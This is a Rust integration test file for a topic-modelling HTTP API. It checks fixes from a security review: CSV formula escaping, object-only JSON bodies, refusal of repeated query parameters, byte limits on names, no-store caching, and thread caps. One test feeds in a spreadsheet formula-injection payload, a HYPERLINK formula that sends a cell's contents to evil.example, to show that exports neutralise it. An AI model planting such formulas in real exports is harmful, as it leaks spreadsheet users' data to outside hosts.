//! Small hardening findings of a security review, over HTTP: CSV cells that would run
//! as spreadsheet formulas, bodies (and structs inside them) read by position from
//! arrays, repeated query parameters, unbounded names, and `/v1` answers a browser or
//! proxy could cache.

mod common;

use common::{appstream_docs, assert_problem, TestServer};
use serde_json::{json, Value};
use std::time::Duration;
use topicd::api::auth::AuthMode;

/// The cells of one CSV line (RFC 4180 quoting).
fn csv_cells(line: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted, mut chars) = (vec![], String::new(), false, line.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(std::mem::take(&mut cell)),
            _ => cell.push(c),
        }
    }
    cells.push(cell);
    cells
}

async fn fit_lda(s: &TestServer) -> String {
    let cid = s.upload(json!({"documents": appstream_docs(60)})).await["id"].as_str().unwrap().to_string();
    let job = s.submit(&cid, "lda", json!({"topics": 3, "iterations": 20}), 5).await;
    let done = s.wait(job["id"].as_str().unwrap(), Duration::from_secs(120)).await;
    assert_eq!(done["status"], "succeeded", "{done}");
    done["model_id"].as_str().unwrap().to_string()
}

/// A topic named like a formula is exported as text (`'=HYPERLINK(...)`), while the
/// numbers the server writes, a negative coherence among them, stay numbers. Topic
/// names are bounded in bytes, and a rename body must be an object.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_text_cells_never_start_a_formula() {
    let mut s = TestServer::start().await;
    let mid = fit_lda(&s).await;
    let formula = r#"=HYPERLINK("http://evil.example/?q="&A1,"open")"#;
    for (k, name) in [(0, formula), (1, "@SUM(A1:A9)"), (2, "-2+3")] {
        let (st, v) = s.patch(&format!("/v1/models/{mid}/topics/{k}"), &json!({"name": name})).await;
        assert_eq!(st, 200, "{v}");
        // JSON answers keep the name as given.
        assert_eq!(v["topic"]["name"], name);
    }
    for path in [
        format!("/v1/models/{mid}/topics?n=4&format=csv&with=coherence&measure=u_mass"),
        format!("/v1/models/{mid}/topics/0/frex?n=4&format=csv&with=coherence&measure=u_mass"),
    ] {
        let (st, ct, csv) = s.get_text(&path).await;
        assert_eq!(st, 200, "{csv}");
        assert!(ct.starts_with("text/csv"), "{ct}");
        let mut lines = csv.lines();
        assert_eq!(
            lines.next(),
            Some("topic,label,name,rank,word,frequency,exclusivity,frex,stability_chains,stability_matched,stability_similarity,coherence")
        );
        let mut negative = 0;
        for line in lines {
            let cells = csv_cells(line);
            assert_eq!(cells.len(), 12, "{line}");
            // Text cells: label, name, word.
            for text in [&cells[1], &cells[2], &cells[4]] {
                assert!(!text.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell in {line:?}");
            }
            let expected = match cells[0].as_str() {
                "0" => format!("'{formula}"),
                "1" => "'@SUM(A1:A9)".to_string(),
                _ => "'-2+3".to_string(),
            };
            assert_eq!(cells[2], expected, "{line}");
            // u_mass coherence is negative and written as the number it is.
            let coherence: f64 = cells[11].parse().unwrap_or_else(|_| panic!("not a number: {line}"));
            if coherence < 0.0 {
                assert!(line.ends_with(&format!(",{}", cells[11])) && cells[11].starts_with('-'), "{line}");
                negative += 1;
            }
        }
        assert!(negative > 0, "no negative coherence to check: {csv}");
        // The formula is quoted as CSV requires, its quotes doubled.
        assert!(csv.contains(r#","'=HYPERLINK(""http://evil.example/?q=""&A1,""open"")","#), "{csv}");
    }

    // Topic names: at most 200 bytes, so 100 two-byte characters and no more; a body
    // that is not an object is refused.
    let (st, v) = s.patch(&format!("/v1/models/{mid}/topics/0"), &json!({"name": "é".repeat(100)})).await;
    assert_eq!(st, 200, "{v}");
    let (st, v) = s.patch(&format!("/v1/models/{mid}/topics/0"), &json!({"name": "é".repeat(101)})).await;
    assert_problem(st, &v, 422, Some("name"));
    assert!(v["detail"].as_str().unwrap().contains("200 bytes") && v["detail"].as_str().unwrap().contains("202"), "{v}");
    let (st, v) = s.patch(&format!("/v1/models/{mid}/topics/0"), &json!(["Games"])).await;
    assert_problem(st, &v, 422, Some("body"));
    s.stop().await;
}

/// A body, or a struct inside it, given as an array is not read by position.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_and_their_structs_must_be_objects() {
    let mut s = TestServer::start().await;
    for path in ["/v1/corpora", "/v1/graphs", "/v1/jobs"] {
        for body in [r#"["n",[{"text":"git"}]]"#, r#""n""#, "null", "7", "true"] {
            let (st, v) = s.post_raw(path, body.to_string(), "application/json").await;
            assert_problem(st, &v, 422, Some("body"));
            assert!(v["detail"].as_str().unwrap().starts_with("expected a JSON object, found"), "{path} {body}: {v}");
        }
        // What is not JSON stays a 400.
        let (st, v) = s.post_raw(path, "nope".to_string(), "application/json").await;
        assert_problem(st, &v, 400, None);
    }
    // Nested structs: a document and a tree entry given as arrays.
    for (body, field) in [
        (json!({"documents": [{"text": "git"}, ["2", "svn"]]}), "documents[1]"),
        (json!({"documents": [{"text": "git", "labels": ["Dev"]}], "tree": [["Dev", null]]}), "tree[0]"),
        (json!({"documents": [{"text": "git"}], "preprocess": [1]}), "preprocess"),
    ] {
        let (st, v) = s.post("/v1/corpora", &body).await;
        assert_problem(st, &v, 422, Some(field));
        assert!(v["detail"].as_str().unwrap().contains("expected a JSON object"), "{v}");
    }
    assert_eq!(s.get("/v1/corpora").await.1["total"], 0);
    // Pairs (tuples) are still arrays: a graph's edges.
    let (st, v) = s.post("/v1/graphs", &json!({"nodes": ["a", "b", "c"], "edges": [["a", "b"], ["b", "c"]]})).await;
    assert_eq!(st, 201, "{v}");
    s.stop().await;
}

/// A query parameter given twice is refused, not silently one of its values.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn repeated_query_parameters_are_refused() {
    let mut s = TestServer::start().await;
    for (path, field) in [
        ("/v1/corpora?limit=1&limit=2", "query.limit"),
        ("/v1/graphs?offset=0&limit=5&offset=1", "query.offset"),
        ("/v1/jobs?status=queued&st%61tus=failed", "query.status"),
        ("/v1/models/nope/topics?n=2&n=3", "query.n"),
    ] {
        let (st, v) = s.get(path).await;
        assert_problem(st, &v, 422, Some(field));
        assert!(v["detail"].as_str().unwrap().contains("given more than once"), "{path}: {v}");
    }
    assert_eq!(s.get("/v1/corpora?limit=1&offset=0").await.0, 200);
    s.stop().await;
}

/// Graph names are at most 200 bytes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn graph_names_are_bounded_in_bytes() {
    let mut s = TestServer::start().await;
    let graph = |name: String| json!({"name": name, "nodes": ["a", "b"], "edges": [["a", "b"]]});
    for long in ["x".repeat(201), "é".repeat(101)] {
        let (st, v) = s.post("/v1/graphs", &graph(long.clone())).await;
        assert_problem(st, &v, 422, Some("name"));
        let detail = v["detail"].as_str().unwrap();
        assert!(detail.contains("200 bytes") && detail.contains(&long.len().to_string()), "{v}");
    }
    assert_eq!(s.get("/v1/graphs").await.1["total"], 0);
    for fits in ["x".repeat(200), "é".repeat(100)] {
        let (st, v) = s.post("/v1/graphs", &graph(fits.clone())).await;
        assert_eq!((st, v["name"].as_str()), (201, Some(fits.as_str())), "{v}");
    }
    s.stop().await;
}

async fn cache_control(s: &TestServer, method: reqwest::Method, path: &str, body: Option<Value>) -> (u16, Option<String>) {
    let mut r = s.client.request(method, format!("{}{path}", s.base));
    if let Some(b) = body {
        r = r.json(&b);
    }
    let r = r.send().await.expect("request");
    (r.status().as_u16(), r.headers().get("cache-control").map(|v| v.to_str().unwrap().to_string()))
}

/// Every `/v1` answer, errors included, is `Cache-Control: no-store`; the console's
/// files and the operational endpoints keep their own.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn v1_answers_are_never_cached() {
    use reqwest::Method;
    let mut s = TestServer::start().await;
    let no_store = Some("no-store".to_string());
    for (method, path, body, status) in [
        (Method::GET, "/v1/corpora", None, 200),
        (Method::POST, "/v1/corpora", Some(json!({"documents": appstream_docs(20)})), 201),
        (Method::GET, "/v1/corpora?limit=0", None, 422),
        (Method::POST, "/v1/corpora", Some(json!(["n"])), 422),
        (Method::GET, "/v1/models/nope", None, 404),
        (Method::GET, "/v1/no-such-thing", None, 404),
        (Method::DELETE, "/v1/families", None, 405),
    ] {
        assert_eq!(cache_control(&s, method, path, body).await, (status, no_store.clone()), "{path}");
    }
    assert_eq!(cache_control(&s, Method::GET, "/", None).await, (200, Some("no-cache".into())));
    let (st, vendor) = cache_control(&s, Method::GET, "/console/vendor/d3-7.9.2.min.js", None).await;
    assert_eq!((st, vendor.as_deref()), (200, Some("public, max-age=31536000, immutable")));
    for path in ["/healthz", "/openapi.json"] {
        let (st, cc) = cache_control(&s, Method::GET, path, None).await;
        assert_eq!(st, 200, "{path}");
        assert_ne!(cc, no_store, "{path}");
    }

    // Refusals of the token check are /v1 answers too.
    s.stop().await;
    s.boot(|c| c.auth = Some(AuthMode::Required)).await;
    assert_eq!(cache_control(&s, Method::GET, "/v1/corpora", None).await, (401, no_store.clone()));
    s.stop().await;
}

/// A job that asks for more threads than the machine has cores runs on at most its
/// cores (or the server's `--threads`, where that is more): a fit's result does not
/// depend on its threads, and 1 024 spinning workers on a small replica slow every
/// other request down. The job keeps the options it was given.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_runs_on_at_most_the_machines_cores() {
    let s = TestServer::start().await;
    let corpus = s.upload(json!({"name": "c", "documents": appstream_docs(40)})).await;
    let body = json!({"corpus_id": corpus["id"], "model": "lda", "params": {"topics": 2, "iterations": 5}, "options": {"threads": 1024}, "seed": 1});
    let (st, job) = s.post("/v1/jobs", &body).await;
    assert_eq!(st, 202, "{job}");
    let done = s.wait(job["id"].as_str().unwrap(), Duration::from_secs(120)).await;
    assert_eq!(done["status"], "succeeded", "{done}");
    assert_eq!(done["options"]["threads"], 1024, "{done}");
    let cores = std::thread::available_parallelism().map_or(1, |n| n.get()) as u64;
    let used = done["progress"]["threads"].as_u64().unwrap();
    // The test server's `--threads` is 2 (`Config::for_tests`).
    assert!(used <= cores.max(2), "ran on {used} threads with {cores} cores: {done}");
}
